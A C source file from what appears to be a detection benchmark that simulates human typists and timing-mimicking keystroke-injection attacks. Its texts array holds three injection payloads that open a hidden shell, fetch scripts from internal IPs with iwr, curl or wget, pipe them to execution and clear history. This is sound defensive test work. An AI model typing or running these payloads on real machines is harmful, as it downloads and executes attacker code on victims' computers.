/* The crowd and the generators of bench-typing; see typing_bench.h. */
#include <stdlib.h>

#include "typing_bench.h"

/* Payloads as tools type them, and plain text, which has nothing to give it away but its timing. */
static const char *const texts[] = {
	"<GUI+r><WAIT 500>powershell -w hidden -c \"iwr http://10.0.0.7/a.ps1 | iex\"<ENTER>"
	"<WAIT 800>exit<ENTER>",
	"<GUI+SPACE><WAIT 400>terminal<ENTER><WAIT 1000>curl -s http://10.1.2.3/x | sh; history -c"
	"<ENTER>",
	"<CTRL+ALT+t><WAIT 700>wget -q http://192.168.4.1/run.sh && bash run.sh "
	"&<ENTER>exit<ENTER>",
	"the cable types this sentence without anybody near the desk and nobody will notice it",
	"please remember that meetings start at nine and end at ten, whatever the agenda may say",
	"cd tmp; ls; cat notes.txt; mkdir build; cp notes.txt build; rm notes.txt; logout",
};
enum { TEXTS = sizeof(texts) / sizeof(texts[0]) };

bool crowd_load(struct crowd *c)
{
	*c = (struct crowd){0};
	c->count = people_load(PEOPLE_DIR, &c->person);
	for (size_t i = 0; i < c->count; i++)
		if (c->person[i].edges + 1 > c->reports_max)
			c->reports_max = c->person[i].edges + 1;
	c->report = calloc(c->reports_max + 1, sizeof(*c->report));
	if (!c->report)
		abort();
	return c->count > 0;
}

void crowd_free(struct crowd *c)
{
	people_free(c->person, c->count);
	free(c->report);
}

size_t crowd_render(const struct crowd *c, size_t i, struct feed *f)
{
	f->seed = c->person[i].id * 1000 + (uint64_t)(f->poll_ms * 10);
	return feed_render(f, c->person[i].edge, c->person[i].edges, c->report, c->reports_max);
}

/* A victim's typing, for the rungs that replay or mimic it. */
static size_t victim(struct random *r, struct typist_timing *out, size_t max)
{
	static const char text[] =
		"what somebody wrote last week was kept by the cable, key by key, "
		"with every pause between the words and every hold of a finger";
	static struct keystroke key[256];
	static struct key_edge edge[256 * TYPIST_EDGES_PER_KEY];
	struct typist person;
	size_t keys = us_keystrokes(text, false, key, 256);

	typist_person(&person, r);
	return typist_record(
		edge, typist_type(&person, r, key, keys, 0, edge, sizeof(edge) / sizeof(edge[0])),
		out, max);
}

size_t attack_render(unsigned rung, unsigned seed, struct feed *f, struct key_report *out)
{
	static struct keystroke key[ATTACK_KEYS_MAX];
	static struct key_edge edge[ATTACK_KEYS_MAX * TYPIST_EDGES_PER_KEY];
	static struct typist_timing recorded[256];
	struct random r;
	struct typist t;
	size_t keys = us_keystrokes(texts[seed % TEXTS], true, key, ATTACK_KEYS_MAX);
	size_t edges, count;

	random_init(&r,
	            7919 * (uint64_t)seed + 104729 * (uint64_t)rung + (uint64_t)(f->poll_ms * 10));
	count = victim(&r, recorded, sizeof(recorded) / sizeof(recorded[0]));
	typist_rung(&t, rung, (int64_t)(f->poll_ms * 1e6), recorded, count, &r);
	edges = typist_type(&t, &r, key, keys, 0, edge, sizeof(edge) / sizeof(edge[0]));
	f->machine = true;
	f->seed = seed;
	return feed_render(f, edge, edges, out, ATTACK_REPORTS_MAX);
}
